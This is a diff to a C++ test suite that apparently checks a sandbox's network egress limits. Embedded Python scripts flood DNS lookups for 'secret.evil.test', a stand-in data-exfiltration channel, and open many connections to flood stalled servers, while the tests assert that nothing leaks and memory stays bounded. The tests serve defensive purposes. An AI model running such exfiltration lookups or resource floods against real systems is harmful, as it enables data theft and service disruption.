@@ -393,7 +393,9 @@ TEST_P(EgressLifeAttack, D40_AFloodOfLookupsLeavesOthersAlone) {
                            "        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                            "        sock.connect(('11.0.0.53', 53))\n"
                            "        message = question('secret.evil.test')\n"
-                           "        until = time.time() + 6\n"
+                           "        until = time.time() + " +
+                               std::to_string(number_from("CARREL_FLOOD_SECONDS", 6)) +
+                               "\n"
                            "        while time.time() < until:\n"
                            "            for _ in range(500):\n"
                            "                try:\n"
@@ -415,19 +417,25 @@ TEST_P(EgressLifeAttack, D40_AFloodOfLookupsLeavesOthersAlone) {
                        "print('took', time.time() - begun)\n"
                        "attempt('slowly', lambda: time.time() - begun > 5)\n"),
             Names{"other"});
-  EXPECT_FALSE(flood->wait(seconds(60)).timed_out);
+  EXPECT_LT(resident_kib(), 96 << 10);
+  EXPECT_FALSE(flood->wait(seconds(100)).timed_out);
   EXPECT_THAT(internet().queries(), testing::Not(Contains(HasSubstr("evil"))));
 }
 
-TEST_P(EgressLifeAttack, D40_WhatAStalledServerDoesNotTakeIsNotKept) {
-  const std::string id = create({"--network", "allow=tcp:allowed.test:9"});
+// Half of the servers take nothing, and the others send back what the client does not read.
+// CARREL_FLOOD_SECONDS=60 is the long run.
+TEST_P(EgressLifeAttack, D40_WhatAStalledServerOrClientDoesNotTakeIsNotKept) {
+  const auto length = number_from("CARREL_FLOOD_SECONDS", 3);
+  const std::string id = create({"--network", "allow=tcp:allowed.test:9,tcp:allowed.test:7000"});
   ASSERT_EQ(through_in(id, "attempt('up', lambda: True)\n"), Names{"up"});
   const long before = resident_kib();
   const auto client =
-      begin(id,
-            "import selectors\n"
-            "socks = [socket.create_connection(('allowed.test', 9), 3) for _ in range(100)]\n"
-            "piece, sent, until = b'x' * 65536, 0, time.time() + 3\n"
+      start(id,
+            "socks = [socket.create_connection(('allowed.test', 9 if number % 2 else 7000), 3)\n"
+            "         for number in range(100)]\n"
+            "piece, sent, until = b'x' * 65536, 0, time.time() + " +
+                std::to_string(length) +
+                "\n"
             "for sock in socks:\n"
             "    sock.setblocking(False)\n"
             "while time.time() < until:\n"
@@ -438,6 +446,7 @@ TEST_P(EgressLifeAttack, D40_WhatAStalledServerDoesNotTakeIsNotKept) {
             "            pass\n"
             "print('begun', sent, flush=True)\n"
             "sys.stdin.readline()\n");
+  EXPECT_TRUE(client->wait_for_output("begun", seconds(20) + seconds(length))) << client->err();
   EXPECT_LT(resident_kib() - before, 100 * 200) << "more than two pieces for each connection";
   client->write("\n");
   EXPECT_FALSE(client->wait(seconds(20)).timed_out);
